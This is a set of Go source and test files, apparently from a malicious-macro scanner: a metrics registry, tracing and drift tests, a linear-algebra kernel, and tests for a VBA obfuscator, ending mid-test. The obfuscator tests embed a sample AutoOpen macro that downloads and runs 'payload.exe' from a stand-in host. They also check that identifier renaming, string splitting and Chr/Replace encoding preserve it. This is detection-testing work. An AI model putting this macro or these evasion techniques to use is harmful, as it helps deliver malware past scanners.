// GaugeFunc registers a gauge computed at render time (uptime, heap size,
// goroutine count).
func (r *Registry) GaugeFunc(name, help string, fn func() float64) {
	r.register(name, func() *family {
		return &family{name: name, help: help, kind: kindGaugeFunc, fn: fn}
	})
}

// CounterFunc registers a monotonic counter computed at render time, for
// cumulative totals owned by another subsystem (cache hit counts, eviction
// counts). fn must be monotonically non-decreasing for the family to obey
// Prometheus counter semantics.
func (r *Registry) CounterFunc(name, help string, fn func() int64) {
	r.register(name, func() *family {
		return &family{name: name, help: help, kind: kindCounterFunc, intFn: fn}
	})
}

// Histogram registers (or fetches) a histogram family over bounds in
// seconds (nil = DefaultLatencyBuckets).
func (r *Registry) Histogram(name, help string, bounds []float64) *Histogram {
	return r.register(name, func() *family {
		return &family{name: name, help: help, kind: kindHistogram, hist: NewHistogram(bounds)}
	}).hist
}

// LabeledCounter registers (or fetches) a counter family keyed by one
// label.
func (r *Registry) LabeledCounter(name, help, labelKey string) *LabeledCounter {
	return r.register(name, func() *family {
		return &family{name: name, help: help, kind: kindLabeledCounter, labelKey: labelKey,
			labeled: &LabeledCounter{items: make(map[string]*Counter)}}
	}).labeled
}

// LabeledGaugeFunc registers a gauge family keyed by one label and
// computed at render time: fn returns parallel label values and gauge
// readings (drift scores per channel, burn rates per window). fn runs on
// every scrape, so it should be cheap and must be safe for concurrent
// use.
func (r *Registry) LabeledGaugeFunc(name, help, labelKey string, fn func() ([]string, []float64)) {
	r.register(name, func() *family {
		return &family{name: name, help: help, kind: kindLabeledGaugeFunc, labelKey: labelKey, labeledFn: fn}
	})
}

// InfoFunc registers an info-style gauge: a constant value of 1 whose
// labels carry build/runtime identity (version, go version, model ID).
// fn runs on every scrape; keys render sorted for determinism.
func (r *Registry) InfoFunc(name, help string, fn func() map[string]string) {
	r.register(name, func() *family {
		return &family{name: name, help: help, kind: kindInfo, infoFn: fn}
	})
}

// snapshotFamilies copies the family list under the lock so rendering
// iterates without holding it.
func (r *Registry) snapshotFamilies() []*family {
	r.mu.Lock()
	defer r.mu.Unlock()
	out := make([]*family, 0, len(r.names))
	for _, name := range r.names {
		out = append(out, r.families[name])
	}
	return out
}

// WriteJSON renders every family as one JSON document (map keys sorted by
// encoding/json), the expvar-style format the daemon's /metrics endpoint
// has always served.
func (r *Registry) WriteJSON(w io.Writer) error {
	tree := make(map[string]any)
	for _, f := range r.snapshotFamilies() {
		switch f.kind {
		case kindCounter:
			tree[f.name] = f.counter.Value()
		case kindGauge:
			tree[f.name] = f.gauge.Value()
		case kindGaugeFunc:
			tree[f.name] = f.fn()
		case kindCounterFunc:
			tree[f.name] = f.intFn()
		case kindHistogram:
			tree[f.name] = f.hist.jsonValue()
		case kindLabeledCounter:
			keys, vals := f.labeled.values()
			m := make(map[string]int64, len(keys))
			for i, k := range keys {
				m[k] = vals[i]
			}
			tree[f.name] = m
		case kindLabeledGaugeFunc:
			keys, vals := f.labeledFn()
			m := make(map[string]float64, len(keys))
			for i, k := range keys {
				if i < len(vals) {
					m[k] = vals[i]
				}
			}
			tree[f.name] = m
		case kindInfo:
			tree[f.name] = f.infoFn()
		}
	}
	enc := json.NewEncoder(w)
	enc.SetIndent("", "  ")
	return enc.Encode(tree)
}

// RegisterGoRuntime adds the Go runtime gauges every production scrape
// wants: goroutine count, heap usage, and cumulative GC work. Call once
// per registry.
func (r *Registry) RegisterGoRuntime() {
	r.GaugeFunc("go_goroutines", "Number of goroutines that currently exist.",
		func() float64 { return float64(runtime.NumGoroutine()) })
	r.GaugeFunc("go_memstats_heap_alloc_bytes", "Bytes of allocated heap objects.",
		func() float64 { return float64(readMemStats().HeapAlloc) })
	r.GaugeFunc("go_memstats_heap_objects", "Number of allocated heap objects.",
		func() float64 { return float64(readMemStats().HeapObjects) })
	r.GaugeFunc("go_memstats_sys_bytes", "Bytes of memory obtained from the OS.",
		func() float64 { return float64(readMemStats().Sys) })
	r.GaugeFunc("go_gc_cycles_total", "Completed GC cycles since process start.",
		func() float64 { return float64(readMemStats().NumGC) })
	r.GaugeFunc("go_gc_pause_seconds_total", "Cumulative GC stop-the-world pause time.",
		func() float64 { return float64(readMemStats().PauseTotalNs) / 1e9 })
}

// memStatsCache rate-limits runtime.ReadMemStats (it stops the world
// briefly): one read serves every gauge in a scrape, and scrapes closer
// than a second apart share a read.
var memStatsCache struct {
	mu   sync.Mutex
	at   time.Time
	data runtime.MemStats
}

func readMemStats() runtime.MemStats {
	memStatsCache.mu.Lock()
	defer memStatsCache.mu.Unlock()
	if time.Since(memStatsCache.at) > time.Second {
		runtime.ReadMemStats(&memStatsCache.data)
		memStatsCache.at = time.Now()
	}
	return memStatsCache.data
}
