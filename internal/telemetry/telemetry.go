// Package telemetry is the pipeline-wide observability layer: per-document
// trace spans, a metrics registry with JSON and Prometheus text exposition,
// and a sampled verdict audit log. Every entry point — the CLI, the batch
// scan engine and the HTTP daemon — shares these three primitives, so a
// slow or drifting deployment can be diagnosed from its exhaust instead of
// a debugger.
//
// The package is dependency-free (standard library only) and built around
// a nil-check fast path: a nil *Tracer, *Span, *Counter, *Gauge,
// *Histogram or *AuditLogger is a valid "disabled" instance whose methods
// return immediately without allocating, so instrumented code needs no
// conditionals and pays near-zero cost when telemetry is off.
package telemetry

import "context"

// tracerKey carries a *Tracer through a context.
type tracerKey struct{}

// ContextWithTracer attaches tr to ctx so pipeline stages deeper in the
// call tree (core.ScanFileCtx, extraction) can record spans onto it.
func ContextWithTracer(ctx context.Context, tr *Tracer) context.Context {
	if tr == nil {
		return ctx
	}
	return context.WithValue(ctx, tracerKey{}, tr)
}

// TracerFrom extracts the tracer attached by ContextWithTracer, or nil
// when the scan is untraced. The nil result is safe to use directly: every
// Tracer and Span method no-ops on a nil receiver.
func TracerFrom(ctx context.Context) *Tracer {
	tr, _ := ctx.Value(tracerKey{}).(*Tracer)
	return tr
}
