package telemetry

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"
)

// TestSpanTreeOrdering asserts children export in creation order — the
// determinism callers rely on to read a trace as a pipeline narrative.
func TestSpanTreeOrdering(t *testing.T) {
	tr := NewTracer("doc.docm")
	root := tr.Root()
	names := []string{"extract", "macro:Module1", "macro:Module2", "finish"}
	for _, n := range names {
		sp := root.Child(n)
		sp.Child(n + "/lex").End()
		sp.Child(n + "/classify").End()
		sp.End()
	}
	tr.Finish()

	blob, err := json.Marshal(tr.Trace())
	if err != nil {
		t.Fatal(err)
	}
	var decoded Trace
	if err := json.Unmarshal(blob, &decoded); err != nil {
		t.Fatal(err)
	}
	if len(decoded.Root.Children) != len(names) {
		t.Fatalf("got %d children, want %d", len(decoded.Root.Children), len(names))
	}
	for i, n := range names {
		c := decoded.Root.Children[i]
		if c.Name != n {
			t.Errorf("child %d = %q, want %q", i, c.Name, n)
		}
		if len(c.Children) != 2 || c.Children[0].Name != n+"/lex" || c.Children[1].Name != n+"/classify" {
			t.Errorf("child %d grandchildren out of order: %+v", i, c.Children)
		}
	}
	if decoded.Root.DurNS <= 0 {
		t.Error("finished root span has zero duration")
	}
}

// TestSpanAnnotations checks bytes, errors and ordered attrs survive the
// JSON round trip.
func TestSpanAnnotations(t *testing.T) {
	tr := NewTracer("x")
	sp := tr.Root().Child("cfb_parse")
	sp.SetBytes(4096)
	sp.SetError(errors.New("boom"), "malformed")
	sp.Annotate("sector_size", "512")
	sp.Annotate("fat_entries", "12")
	sp.End()
	tr.Finish()

	blob, _ := json.Marshal(tr.Trace())
	s := string(blob)
	for _, want := range []string{`"bytes":4096`, `"error":"boom"`, `"class":"malformed"`, `"sector_size"`} {
		if !strings.Contains(s, want) {
			t.Errorf("trace JSON missing %s: %s", want, s)
		}
	}
	var decoded Trace
	if err := json.Unmarshal(blob, &decoded); err != nil {
		t.Fatal(err)
	}
	attrs := decoded.Root.Children[0].Attrs
	if len(attrs) != 2 || attrs[0].Key != "sector_size" || attrs[1].Key != "fat_entries" {
		t.Errorf("attrs lost order: %+v", attrs)
	}
}

// TestNilTracerIsDisabled drives the whole span API through nil receivers:
// nothing may panic and nothing may allocate — the disabled fast path.
func TestNilTracerIsDisabled(t *testing.T) {
	var tr *Tracer
	if tr.Root() != nil || tr.Trace() != nil {
		t.Fatal("nil tracer leaked a non-nil span")
	}
	allocs := testing.AllocsPerRun(100, func() {
		sp := tr.Root().Child("extract")
		sp.SetBytes(10)
		sp.SetError(errors.New("x"), "y")
		sp.Annotate("k", "v")
		grand := sp.Child("inner")
		grand.End()
		sp.End()
		tr.Finish()
	})
	// The one alloc budgeted here is errors.New in the loop body itself.
	if allocs > 1 {
		t.Errorf("disabled tracer path allocates %v times per op", allocs)
	}
}

// TestTracerFromContext round-trips a tracer through a context and checks
// the missing case returns nil.
func TestTracerFromContext(t *testing.T) {
	if got := TracerFrom(context.Background()); got != nil {
		t.Fatal("empty context produced a tracer")
	}
	tr := NewTracer("a")
	ctx := ContextWithTracer(context.Background(), tr)
	if got := TracerFrom(ctx); got != tr {
		t.Fatal("tracer did not round-trip through context")
	}
	if ctx := ContextWithTracer(context.Background(), nil); TracerFrom(ctx) != nil {
		t.Fatal("nil tracer round-tripped as non-nil")
	}
}

// TestChromeTraceExport checks the trace_event file is valid JSON with one
// complete event per span, microsecond units.
func TestChromeTraceExport(t *testing.T) {
	tr := NewTracer("doc1.xlsm")
	sp := tr.Root().Child("extract")
	time.Sleep(time.Millisecond)
	sp.End()
	tr.Root().Child("classify").End()
	tr.Finish()

	var buf bytes.Buffer
	if err := WriteChromeTrace(&buf, []*Trace{tr.Trace(), nil}); err != nil {
		t.Fatal(err)
	}
	var doc struct {
		TraceEvents []struct {
			Name string  `json:"name"`
			Ph   string  `json:"ph"`
			Dur  float64 `json:"dur"`
			TID  int     `json:"tid"`
		} `json:"traceEvents"`
	}
	if err := json.Unmarshal(buf.Bytes(), &doc); err != nil {
		t.Fatalf("chrome trace is not valid JSON: %v", err)
	}
	if len(doc.TraceEvents) != 3 { // scan + extract + classify
		t.Fatalf("got %d events, want 3", len(doc.TraceEvents))
	}
	for _, ev := range doc.TraceEvents {
		if ev.Ph != "X" {
			t.Errorf("event %s has phase %q, want X", ev.Name, ev.Ph)
		}
	}
	var extractDur float64
	for _, ev := range doc.TraceEvents {
		if ev.Name == "extract" {
			extractDur = ev.Dur
		}
	}
	if extractDur < 500 { // slept 1ms => at least 500µs in microsecond units
		t.Errorf("extract duration %v µs implausible for a 1ms sleep", extractDur)
	}
}

// TestTraceWriterJSONL checks one line per trace and concurrent safety.
func TestTraceWriterJSONL(t *testing.T) {
	var buf bytes.Buffer
	tw := NewTraceWriter(&buf)
	for i := 0; i < 3; i++ {
		tr := NewTracer("doc")
		tr.Root().Child("extract").End()
		tr.Finish()
		if err := tw.Write(tr); err != nil {
			t.Fatal(err)
		}
	}
	lines := strings.Split(strings.TrimSpace(buf.String()), "\n")
	if len(lines) != 3 {
		t.Fatalf("got %d JSONL lines, want 3", len(lines))
	}
	for _, line := range lines {
		var tr Trace
		if err := json.Unmarshal([]byte(line), &tr); err != nil {
			t.Fatalf("line is not valid JSON: %v", err)
		}
	}
}
