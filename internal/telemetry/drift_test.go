package telemetry

import (
	"math"
	"strings"
	"testing"
)

func TestScoreBins(t *testing.T) {
	bins := ScoreBins([]float64{0, 0.05, 0.15, 0.95, 1.0, math.NaN(), -0.5, 1.5})
	if len(bins) != DriftBins {
		t.Fatalf("len = %d", len(bins))
	}
	// 0, 0.05, NaN, -0.5 land in bin 0; 0.15 in bin 1; 0.95, 1.0, 1.5 in bin 9.
	want := map[int]float64{0: 4.0 / 8, 1: 1.0 / 8, 9: 3.0 / 8}
	for i, p := range bins {
		if math.Abs(p-want[i]) > 1e-12 {
			t.Fatalf("bin %d = %g, want %g", i, p, want[i])
		}
	}
	if ScoreBins(nil) != nil {
		t.Fatalf("empty input should return nil")
	}
}

func TestPSIIdenticalIsZero(t *testing.T) {
	b := []float64{0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1, 0.1}
	if psi := PSI(b, b); math.Abs(psi) > 1e-12 {
		t.Fatalf("PSI(b,b) = %g", psi)
	}
}

func TestPSIDetectsShift(t *testing.T) {
	uniform := make([]float64, DriftBins)
	for i := range uniform {
		uniform[i] = 1.0 / DriftBins
	}
	spiked := make([]float64, DriftBins)
	spiked[9] = 1.0
	if psi := PSI(uniform, spiked); psi < 0.25 {
		t.Fatalf("full shift PSI = %g, want > 0.25", psi)
	}
}

func TestDriftMonitorRollsAndScores(t *testing.T) {
	m := NewDriftMonitor(200)
	base := make([]float64, DriftBins)
	base[0] = 1.0 // baseline: every training score near zero
	m.SetBaseline("stack", base)

	// Below the observation floor: PSI stays 0.
	for i := 0; i < driftMinCount-1; i++ {
		m.Observe("stack", 0.95)
	}
	if _, psi, ok := m.MaxPSI(); !ok || psi != 0 {
		t.Fatalf("below floor: psi=%g ok=%v", psi, ok)
	}

	// Production scores all land in the top bin: drift must scream.
	for i := 0; i < 500; i++ {
		m.Observe("stack", 0.95)
	}
	name, psi, ok := m.MaxPSI()
	if !ok || name != "stack" || psi < 0.25 {
		t.Fatalf("drifted: name=%q psi=%g ok=%v", name, psi, ok)
	}

	// The rolling window keeps totals bounded near the window size.
	names, vals := m.Snapshot()
	if len(names) != 1 || len(vals) != 1 {
		t.Fatalf("snapshot = %v %v", names, vals)
	}
}

func TestDriftMonitorNoBaseline(t *testing.T) {
	m := NewDriftMonitor(0)
	m.SetBaseline("legacy", nil) // registered, no baseline (old snapshot)
	for i := 0; i < 500; i++ {
		m.Observe("legacy", 0.99)
	}
	names, vals := m.Snapshot()
	if len(names) != 1 || names[0] != "legacy" || vals[0] != 0 {
		t.Fatalf("no-baseline channel: %v %v", names, vals)
	}
}

func TestDriftMonitorRecoversAfterWindow(t *testing.T) {
	m := NewDriftMonitor(100)
	uniform := make([]float64, DriftBins)
	for i := range uniform {
		uniform[i] = 1.0 / DriftBins
	}
	m.SetBaseline("v", uniform)
	// A burst of drifted traffic, then a long run matching the baseline:
	// the rolling window must forget the burst.
	for i := 0; i < 200; i++ {
		m.Observe("v", 0.99)
	}
	_, spiked, _ := m.MaxPSI()
	for i := 0; i < 2000; i++ {
		m.Observe("v", float64(i%10)/10.0+0.05)
	}
	_, recovered, _ := m.MaxPSI()
	if recovered >= spiked || recovered > 0.1 {
		t.Fatalf("window did not roll: spiked=%g recovered=%g", spiked, recovered)
	}
}

func TestDriftGaugesRender(t *testing.T) {
	m := NewDriftMonitor(0)
	m.SetBaseline("v", nil)
	r := NewRegistry()
	r.LabeledGaugeFunc("model_drift_psi", "PSI per channel.", "channel", m.Snapshot)
	var sb strings.Builder
	if err := r.WritePrometheus(&sb); err != nil {
		t.Fatalf("render: %v", err)
	}
	if !strings.Contains(sb.String(), `model_drift_psi{channel="v"} 0`) {
		t.Fatalf("exposition missing drift gauge:\n%s", sb.String())
	}
	if _, err := ParseExposition([]byte(sb.String())); err == nil {
		t.Logf("exposition parsed (no counter/histogram families is fine here)")
	}
}
