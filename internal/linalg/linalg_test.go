package linalg

import (
	"errors"
	"math"
	"math/rand"
	"testing"
	"testing/quick"
)

func TestFromRowsAndAccessors(t *testing.T) {
	m, err := FromRows([][]float64{{1, 2}, {3, 4}, {5, 6}})
	if err != nil {
		t.Fatal(err)
	}
	if m.Rows != 3 || m.Cols != 2 {
		t.Fatalf("dims = %dx%d", m.Rows, m.Cols)
	}
	if m.At(1, 0) != 3 || m.At(2, 1) != 6 {
		t.Error("At broken")
	}
	m.Set(0, 1, 9)
	if m.At(0, 1) != 9 {
		t.Error("Set broken")
	}
	if r := m.Row(2); r[0] != 5 || r[1] != 6 {
		t.Error("Row broken")
	}
}

func TestFromRowsRagged(t *testing.T) {
	if _, err := FromRows([][]float64{{1, 2}, {3}}); err == nil {
		t.Error("ragged rows accepted")
	}
}

func TestMulVec(t *testing.T) {
	m, _ := FromRows([][]float64{{1, 2}, {3, 4}})
	got := m.MulVec([]float64{1, 1})
	if got[0] != 3 || got[1] != 7 {
		t.Errorf("MulVec = %v", got)
	}
}

func TestDotAndAddScaled(t *testing.T) {
	if Dot([]float64{1, 2, 3}, []float64{4, 5, 6}) != 32 {
		t.Error("Dot broken")
	}
	dst := []float64{1, 1}
	AddScaled(dst, 2, []float64{3, 4})
	if dst[0] != 7 || dst[1] != 9 {
		t.Errorf("AddScaled = %v", dst)
	}
}

func TestMean(t *testing.T) {
	X := [][]float64{{1, 2}, {3, 4}, {5, 6}}
	m := Mean(X, nil)
	if m[0] != 3 || m[1] != 4 {
		t.Errorf("Mean = %v", m)
	}
	m = Mean(X, []int{0, 2})
	if m[0] != 3 || m[1] != 4 {
		t.Errorf("Mean(idx) = %v", m)
	}
	if m := Mean(X, []int{}); m[0] != 0 {
		t.Errorf("Mean(empty idx) = %v", m)
	}
}

func TestCovarianceIdentity(t *testing.T) {
	// Two features, perfectly anti-correlated.
	X := [][]float64{{1, -1}, {-1, 1}}
	mean := Mean(X, []int{0, 1})
	cov := Covariance(X, []int{0, 1}, mean)
	if cov.At(0, 0) != 1 || cov.At(1, 1) != 1 || cov.At(0, 1) != -1 {
		t.Errorf("cov = %+v", cov)
	}
}

func TestSolveKnownSystem(t *testing.T) {
	a, _ := FromRows([][]float64{{2, 1}, {1, 3}})
	x, err := Solve(a, []float64{5, 10})
	if err != nil {
		t.Fatal(err)
	}
	if math.Abs(x[0]-1) > 1e-12 || math.Abs(x[1]-3) > 1e-12 {
		t.Errorf("x = %v, want [1 3]", x)
	}
}

func TestSolveSingular(t *testing.T) {
	a, _ := FromRows([][]float64{{1, 2}, {2, 4}})
	if _, err := Solve(a, []float64{1, 2}); !errors.Is(err, ErrSingular) {
		t.Errorf("err = %v, want ErrSingular", err)
	}
}

func TestSolveDimensionMismatch(t *testing.T) {
	a, _ := FromRows([][]float64{{1, 2}})
	if _, err := Solve(a, []float64{1}); err == nil {
		t.Error("non-square accepted")
	}
}

func TestSolveDoesNotModifyInput(t *testing.T) {
	a, _ := FromRows([][]float64{{4, 1}, {1, 3}})
	before := append([]float64(nil), a.Data...)
	if _, err := Solve(a, []float64{1, 2}); err != nil {
		t.Fatal(err)
	}
	for i := range before {
		if a.Data[i] != before[i] {
			t.Fatal("Solve modified input matrix")
		}
	}
}

func TestSolveRandomSPDProperty(t *testing.T) {
	// Property: for random SPD systems, Solve returns x with A·x ≈ b.
	f := func(seed int64) bool {
		rng := rand.New(rand.NewSource(seed))
		n := 2 + rng.Intn(8)
		// A = B·Bᵀ + I is SPD.
		b := New(n, n)
		for i := range b.Data {
			b.Data[i] = rng.NormFloat64()
		}
		a := New(n, n)
		for i := 0; i < n; i++ {
			for j := 0; j < n; j++ {
				s := 0.0
				for k := 0; k < n; k++ {
					s += b.At(i, k) * b.At(j, k)
				}
				a.Set(i, j, s)
			}
		}
		a.AddDiagonal(1)
		rhs := make([]float64, n)
		for i := range rhs {
			rhs[i] = rng.NormFloat64()
		}
		x, err := Solve(a, rhs)
		if err != nil {
			return false
		}
		back := a.MulVec(x)
		for i := range back {
			if math.Abs(back[i]-rhs[i]) > 1e-6 {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 60}); err != nil {
		t.Error(err)
	}
}

func TestAddDiagonal(t *testing.T) {
	m := New(2, 2)
	m.AddDiagonal(0.5)
	if m.At(0, 0) != 0.5 || m.At(1, 1) != 0.5 || m.At(0, 1) != 0 {
		t.Errorf("AddDiagonal = %+v", m)
	}
}

func TestClone(t *testing.T) {
	m, _ := FromRows([][]float64{{1, 2}})
	c := m.Clone()
	c.Set(0, 0, 9)
	if m.At(0, 0) != 1 {
		t.Error("Clone shares storage")
	}
}
