// Package linalg provides the small dense linear-algebra kernel the ML
// classifiers need: row-major matrices, products, and linear solves with
// partial pivoting. It exists so the classifiers stay dependency-free.
package linalg

import (
	"errors"
	"fmt"
	"math"
)

// ErrSingular is returned by Solve for effectively singular systems.
var ErrSingular = errors.New("linalg: matrix is singular")

// Matrix is a dense row-major matrix.
type Matrix struct {
	Rows, Cols int
	Data       []float64 // len == Rows*Cols
}

// New allocates a zero matrix.
func New(rows, cols int) *Matrix {
	return &Matrix{Rows: rows, Cols: cols, Data: make([]float64, rows*cols)}
}

// FromRows copies a slice-of-rows into a Matrix. All rows must have equal
// length.
func FromRows(rows [][]float64) (*Matrix, error) {
	if len(rows) == 0 {
		return New(0, 0), nil
	}
	cols := len(rows[0])
	m := New(len(rows), cols)
	for i, r := range rows {
		if len(r) != cols {
			return nil, fmt.Errorf("linalg: row %d has %d cols, want %d", i, len(r), cols)
		}
		copy(m.Data[i*cols:], r)
	}
	return m, nil
}

// At returns element (i, j).
func (m *Matrix) At(i, j int) float64 { return m.Data[i*m.Cols+j] }

// Set assigns element (i, j).
func (m *Matrix) Set(i, j int, v float64) { m.Data[i*m.Cols+j] = v }

// Row returns a view of row i (not a copy).
func (m *Matrix) Row(i int) []float64 { return m.Data[i*m.Cols : (i+1)*m.Cols] }

// Clone returns a deep copy.
func (m *Matrix) Clone() *Matrix {
	out := New(m.Rows, m.Cols)
	copy(out.Data, m.Data)
	return out
}

// MulVec computes m · x.
func (m *Matrix) MulVec(x []float64) []float64 {
	out := make([]float64, m.Rows)
	for i := 0; i < m.Rows; i++ {
		out[i] = Dot(m.Row(i), x)
	}
	return out
}

// Dot is the inner product of equal-length vectors.
func Dot(a, b []float64) float64 {
	s := 0.0
	for i := range a {
		s += a[i] * b[i]
	}
	return s
}

// AddScaled computes dst += alpha * src in place.
func AddScaled(dst []float64, alpha float64, src []float64) {
	for i := range dst {
		dst[i] += alpha * src[i]
	}
}

// Mean returns the column-wise mean of the rows in X restricted to idx
// (all rows when idx is nil).
func Mean(X [][]float64, idx []int) []float64 {
	if len(X) == 0 {
		return nil
	}
	d := len(X[0])
	out := make([]float64, d)
	n := 0
	add := func(row []float64) {
		for j, v := range row {
			out[j] += v
		}
		n++
	}
	if idx == nil {
		for _, r := range X {
			add(r)
		}
	} else {
		for _, i := range idx {
			add(X[i])
		}
	}
	if n == 0 {
		return out
	}
	for j := range out {
		out[j] /= float64(n)
	}
	return out
}

// Covariance computes the (population) covariance matrix of the rows of X
// restricted to idx, around the given mean.
func Covariance(X [][]float64, idx []int, mean []float64) *Matrix {
	d := len(mean)
	cov := New(d, d)
	if len(idx) == 0 {
		return cov
	}
	diff := make([]float64, d)
	for _, i := range idx {
		for j := range diff {
			diff[j] = X[i][j] - mean[j]
		}
		for a := 0; a < d; a++ {
			row := cov.Row(a)
			da := diff[a]
			for b := 0; b < d; b++ {
				row[b] += da * diff[b]
			}
		}
	}
	inv := 1 / float64(len(idx))
	for k := range cov.Data {
		cov.Data[k] *= inv
	}
	return cov
}

// AddDiagonal adds eps to every diagonal element in place (ridge
// regularization for near-singular covariance).
func (m *Matrix) AddDiagonal(eps float64) {
	n := m.Rows
	if m.Cols < n {
		n = m.Cols
	}
	for i := 0; i < n; i++ {
		m.Data[i*m.Cols+i] += eps
	}
}

// Solve solves A x = b by Gaussian elimination with partial pivoting. A is
// not modified.
func Solve(a *Matrix, b []float64) ([]float64, error) {
	n := a.Rows
	if a.Cols != n || len(b) != n {
		return nil, fmt.Errorf("linalg: solve dimension mismatch (%dx%d vs %d)", a.Rows, a.Cols, len(b))
	}
	// Augmented working copy.
	m := a.Clone()
	x := make([]float64, n)
	copy(x, b)
	for col := 0; col < n; col++ {
		// Pivot.
		pivot := col
		best := math.Abs(m.At(col, col))
		for r := col + 1; r < n; r++ {
			if v := math.Abs(m.At(r, col)); v > best {
				best, pivot = v, r
			}
		}
		if best < 1e-12 {
			return nil, ErrSingular
		}
		if pivot != col {
			swapRows(m, pivot, col)
			x[pivot], x[col] = x[col], x[pivot]
		}
		// Eliminate below.
		pv := m.At(col, col)
		for r := col + 1; r < n; r++ {
			f := m.At(r, col) / pv
			if f == 0 {
				continue
			}
			rowR := m.Row(r)
			rowC := m.Row(col)
			for c := col; c < n; c++ {
				rowR[c] -= f * rowC[c]
			}
			x[r] -= f * x[col]
		}
	}
	// Back substitution.
	for i := n - 1; i >= 0; i-- {
		s := x[i]
		row := m.Row(i)
		for j := i + 1; j < n; j++ {
			s -= row[j] * x[j]
		}
		x[i] = s / row[i]
	}
	return x, nil
}

func swapRows(m *Matrix, i, j int) {
	ri, rj := m.Row(i), m.Row(j)
	for k := range ri {
		ri[k], rj[k] = rj[k], ri[k]
	}
}
