package obfuscate

import (
	"math/rand"
	"strings"
	"testing"

	"repro/internal/features"
	"repro/internal/vba"
)

const sample = `Sub AutoOpen()
    ' download and run the payload
    Dim downloadURL As String
    Dim targetPath As String
    downloadURL = "http://malicious.example/payload.exe"
    targetPath = "C:\Users\Public\update.exe"
    Call FetchAndRun(downloadURL, targetPath)
End Sub

Sub FetchAndRun(sourceURL As String, destination As String)
    Dim result As Long
    result = URLDownloadToFile(0, sourceURL, destination, 0, 0)
    If result = 0 Then
        Shell destination, 1
    End If
End Sub
`

func TestApplyDeterministic(t *testing.T) {
	opts := Options{Seed: 42, Random: true, Split: true, Encode: true, Logic: true}
	a := Apply(sample, opts)
	b := Apply(sample, opts)
	if a != b {
		t.Error("Apply not deterministic for equal seeds")
	}
	c := Apply(sample, Options{Seed: 43, Random: true, Split: true, Encode: true, Logic: true})
	if a == c {
		t.Error("different seeds produced identical output")
	}
}

func TestRandomRenamesIdentifiers(t *testing.T) {
	out := Apply(sample, Options{Seed: 1, Random: true})
	for _, id := range []string{"downloadURL", "targetPath", "FetchAndRun", "sourceURL", "destination", "result"} {
		if strings.Contains(out, id) {
			t.Errorf("identifier %q survived O1:\n%s", id, out)
		}
	}
	// Auto-exec entry point must survive.
	if !strings.Contains(out, "AutoOpen") {
		t.Error("AutoOpen was renamed; macro would no longer auto-execute")
	}
	// Keywords and builtins must survive.
	for _, kw := range []string{"Sub ", "Dim ", "Shell", "URLDownloadToFile"} {
		if !strings.Contains(out, kw) {
			t.Errorf("%q missing after O1", kw)
		}
	}
}

func TestRandomRenamingConsistent(t *testing.T) {
	out := Apply("Sub A()\nDim xyz As Long\nxyz = 1\nxyz = xyz + 2\nEnd Sub\n",
		Options{Seed: 5, Random: true})
	m := vba.Parse(out)
	ids := m.Identifiers()
	// One procedure name + one variable.
	if len(ids) != 2 {
		t.Fatalf("identifiers = %v", ids)
	}
	// The renamed variable must appear exactly 4 times (declaration plus
	// three uses, all renamed the same way).
	renamed := ids[1]
	if got := strings.Count(out, renamed); got != 4 {
		t.Errorf("renamed var %q appears %d times, want 4\n%s", renamed, got, out)
	}
}

func TestSplitStrings(t *testing.T) {
	out := Apply(sample, Options{Seed: 7, Split: true})
	if strings.Contains(out, `"http://malicious.example/payload.exe"`) {
		t.Error("long URL literal survived O2 unsplit")
	}
	if !strings.Contains(out, "&") && !strings.Contains(out, "+") {
		t.Error("no concatenation operators after O2")
	}
	// Splitting must preserve the concatenated value: all fragments in
	// order reassemble the original.
	joined := reassembleStrings(out)
	if !strings.Contains(joined, "http://malicious.example/payload.exe") {
		t.Errorf("split fragments do not reassemble the URL: %q", joined)
	}
}

// reassembleStrings concatenates every string literal in source order.
func reassembleStrings(src string) string {
	var sb strings.Builder
	for _, t := range vba.Lex(src) {
		if t.Kind == vba.KindString {
			sb.WriteString(t.StringValue())
		}
	}
	return sb.String()
}

func TestEncodeChr(t *testing.T) {
	out := Apply(sample, Options{Seed: 9, Encode: true, Mode: EncodeChr, EncodeFraction: 1})
	if strings.Contains(out, `"http://malicious.example/payload.exe"`) {
		t.Error("URL survived EncodeChr")
	}
	if !strings.Contains(out, "Chr(") {
		t.Error("no Chr() calls after EncodeChr")
	}
	// Decode the Chr chain and verify the URL is recoverable.
	if !strings.Contains(decodeChrChains(out), "http://malicious.example/payload.exe") {
		t.Error("Chr chain does not decode back to the URL")
	}
}

// decodeChrChains evaluates all Chr(n) occurrences in order.
func decodeChrChains(src string) string {
	var sb strings.Builder
	toks := vba.Lex(src)
	for i := 0; i+2 < len(toks); i++ {
		if toks[i].Kind == vba.KindKeyword || toks[i].Kind == vba.KindIdent {
			if strings.EqualFold(toks[i].Text, "Chr") && toks[i+1].Text == "(" && toks[i+2].Kind == vba.KindNumber {
				var n int
				for _, c := range toks[i+2].Text {
					n = n*10 + int(c-'0')
				}
				sb.WriteByte(byte(n))
			}
		}
	}
	return sb.String()
}

func TestEncodeReplace(t *testing.T) {
	out := Apply(sample, Options{Seed: 11, Encode: true, Mode: EncodeReplace, EncodeFraction: 1})
	if !strings.Contains(out, "Replace(") {
		t.Error("no Replace() calls after EncodeReplace")
	}
	if strings.Contains(out, `"http://malicious.example/payload.exe"`) {
		t.Error("URL survived EncodeReplace")
	}
	// Semantics: evaluating each Replace(hidden, marker, ch) must yield an
	// original literal.
	if !checkReplaceSemantics(out, "http://malicious.example/payload.exe") {
		t.Error("Replace() expressions do not restore the URL")
	}
}

// checkReplaceSemantics scans Replace("a","b","c") triples and evaluates
// them, reporting whether any equals want.
func checkReplaceSemantics(src, want string) bool {
	toks := vba.Lex(src)
	for i := 0; i+7 < len(toks); i++ {
		if (toks[i].Kind == vba.KindIdent || toks[i].Kind == vba.KindKeyword) &&
			strings.EqualFold(toks[i].Text, "Replace") &&
			toks[i+1].Text == "(" &&
			toks[i+2].Kind == vba.KindString &&
			toks[i+3].Text == "," &&
			toks[i+4].Kind == vba.KindString &&
			toks[i+5].Text == "," &&
			toks[i+6].Kind == vba.KindString {
			got := strings.ReplaceAll(toks[i+2].StringValue(), toks[i+4].StringValue(), toks[i+6].StringValue())
			if got == want {
				return true
			}
		}
	}
	return false
}

func TestEncodeDecoder(t *testing.T) {
	out := Apply(sample, Options{Seed: 13, Encode: true, Mode: EncodeDecoder, EncodeFraction: 1})
	if !strings.Contains(out, "Array(") {
